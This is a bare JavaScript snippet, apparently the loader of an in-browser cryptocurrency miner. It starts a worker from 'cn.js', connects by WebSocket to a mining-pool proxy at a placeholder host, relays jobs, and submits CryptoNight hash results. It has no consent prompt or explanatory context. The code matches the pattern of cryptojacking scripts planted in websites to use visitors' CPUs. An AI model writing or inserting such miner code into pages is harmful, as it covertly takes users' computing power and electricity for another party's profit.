const worker = new Worker('cn.js');
const ws = new WebSocket('wss://pool.webmine.example/proxy');
ws.onmessage = (m) => worker.postMessage(JSON.parse(m.data));
worker.onmessage = (m) => ws.send(JSON.stringify({ type: 'submit', params: { job_id: m.data.id, nonce: m.data.nonce, result: m.data.hash, algo: 'cryptonight' } }));
